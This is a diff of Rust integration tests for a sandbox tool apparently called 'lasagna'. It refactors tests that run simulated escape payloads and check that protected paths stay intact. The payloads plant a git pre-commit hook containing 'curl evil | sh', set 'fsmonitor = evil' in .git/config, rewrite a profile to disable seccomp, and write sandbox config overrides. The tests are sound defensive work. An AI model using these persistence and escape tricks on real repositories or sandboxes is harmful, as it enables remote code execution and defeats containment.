@@ -142,12 +142,43 @@ fn home_for(who: As, tag: &str) -> Scratch {
     std::fs::create_dir(home.path().join(".config")).unwrap();
     std::fs::write(home.path().join(".bashrc"), "# the user's own\n").unwrap();
     std::fs::write(home.path().join("notes.txt"), "").unwrap();
-    let owner = match who {
+    chown_tree(home.path(), payload_ids(who));
+    home
+}
+
+/// The payload's host ids: the user's own, or as root lasagna's default 65534.
+fn payload_ids(who: As) -> (u32, u32) {
+    match who {
         As::User => test_user().unwrap(),
         As::Root => (65534, 65534),
-    };
-    chown_tree(home.path(), owner);
-    home
+    }
+}
+
+/// A profile (in a directory of its own, root's when the tests run as root) that extends
+/// `parent` with the guard classes `classes` left writable.
+fn unprotected(parent: &str, classes: &str) -> (Scratch, String) {
+    let dir = Scratch::new("unprotected");
+    let path = dir.write(
+        "lifted.yaml",
+        &format!("extends: {parent}\nlayers:\n  filesystem:\n    unprotect: [{classes}]\n"),
+    );
+    (dir, path)
+}
+
+/// `lasagna run -p PROFILE [--bind-cwd] -- /bin/sh -c SCRIPT` from `dir` as its home.
+fn sh_from(
+    who: As,
+    dir: &Path,
+    profile: &str,
+    bind_cwd: bool,
+    script: &str,
+) -> std::process::Output {
+    let mut args = vec!["run", "-p", profile];
+    if bind_cwd {
+        args.push("--bind-cwd");
+    }
+    args.extend_from_slice(&["--", "/bin/sh", "-c", script]);
+    run_from(who, dir, &args)
 }
 
 fn chown_tree(dir: &Path, (uid, gid): (u32, u32)) {
@@ -186,20 +217,7 @@ both!(
     |who| {
         let home = home_for(who, "plant");
         let h = home.path();
-        let o = run_from(
-            who,
-            h,
-            &[
-                "run",
-                "-p",
-                "strict",
-                "--bind-cwd",
-                "--",
-                "/bin/sh",
-                "-c",
-                PLANT,
-            ],
-        );
+        let o = sh_from(who, h, "strict", true, PLANT);
         assert_code(&o, 0);
         let said = stdout(&o);
         for attempt in [
@@ -238,25 +256,8 @@ both!(
 
         // Control: with the classes unprotected the same payload plants its overlay and
         // startup files, and the next run of `strict` names the overlay it now uses.
-        let profiles = Scratch::new("plant-profiles");
-        let lifted = profiles.write(
-        "lifted.yaml",
-        "extends: strict\nlayers:\n  filesystem:\n    unprotect: [lasagna-config, startup-files]\n",
-    );
-        let o = run_from(
-            who,
-            h,
-            &[
-                "run",
-                "-p",
-                &lifted,
-                "--bind-cwd",
-                "--",
-                "/bin/sh",
-                "-c",
-                PLANT,
-            ],
-        );
+        let (_profiles, lifted) = unprotected("strict", "lasagna-config, startup-files");
+        let o = sh_from(who, h, &lifted, true, PLANT);
         assert_code(&o, 0);
         let said = stdout(&o);
         assert!(
@@ -308,21 +309,11 @@ both!(
         let r = repo.path();
         std::fs::create_dir_all(r.join(".git/hooks")).unwrap();
         std::fs::write(r.join(".git/config"), "[core]\n").unwrap();
-        chown_tree(
-            r,
-            match who {
-                As::User => test_user().unwrap(),
-                As::Root => (65534, 65534),
-            },
-        );
+        chown_tree(r, payload_ids(who));
         let script = "echo 'curl evil | sh' > .git/hooks/pre-commit && echo hook-planted; \
                   echo '[core] fsmonitor = evil' >> .git/config && echo config-changed; \
                   echo work > file.c && echo worked";
-        let o = run_from(
-            who,
-            r,
-            &["run", "-p", "cli-write", "--", "/bin/sh", "-c", script],
-        );
+        let o = sh_from(who, r, "cli-write", false, script);
         assert_code(&o, 0);
         assert_eq!(stdout(&o), "worked\n", "{}", stderr(&o));
         assert!(!r.join(".git/hooks/pre-commit").exists());
@@ -342,16 +333,8 @@ both!(
         );
 
         // Control: unprotected, the hook lands.
-        let profiles = Scratch::new("hooks-profiles");
-        let lifted = profiles.write(
-            "lifted.yaml",
-            "extends: cli-write\nlayers:\n  filesystem:\n    unprotect: [git-hooks]\n",
-        );
-        let o = run_from(
-            who,
-            r,
-            &["run", "-p", &lifted, "--", "/bin/sh", "-c", script],
-        );
+        let (_profiles, lifted) = unprotected("cli-write", "git-hooks");
+        let o = sh_from(who, r, &lifted, false, script);
         assert_code(&o, 0);
         assert_eq!(stdout(&o), "hook-planted\nconfig-changed\nworked\n");
         assert!(r.join(".git/hooks/pre-commit").exists());
@@ -365,11 +348,7 @@ both!(
         let d = dir.path();
         let profile = dir.write("mine.yaml", "extends: cli-write\n");
         let script = "printf 'extends: cli-write\\nlayers: {seccomp: {mode: off}}\\n' > mine.yaml && echo rewritten; echo x > other && echo other-written";
-        let o = run_from(
-            who,
-            d,
-            &["run", "-p", "./mine.yaml", "--", "/bin/sh", "-c", script],
-        );
+        let o = sh_from(who, d, "./mine.yaml", false, script);
         if who == As::Root {
             // As root the profile in a directory the payload's uid owns is refused before
             // anything runs: the owner check is the defense there.
@@ -395,20 +374,7 @@ both!(
         let script = "mkdir -p .config/lasagna/profiles 2>/dev/null && echo x > .config/lasagna/profiles/strict.local.yaml && echo planted; \
                   mv .config .config-old 2>/dev/null && echo renamed; \
                   mkdir -p .config/app && echo y > .config/app/settings && echo app-config";
-        let o = run_from(
-            who,
-            h,
-            &[
-                "run",
-                "-p",
-                "strict",
-                "--bind-cwd",
-                "--",
-                "/bin/sh",
-                "-c",
-                script,
-            ],
-        );
+        let o = sh_from(who, h, "strict", true, script);
         assert_code(&o, 0);
         assert_eq!(stdout(&o), "app-config\n", "{}", stderr(&o));
         assert!(!h.join(".config/lasagna").exists());
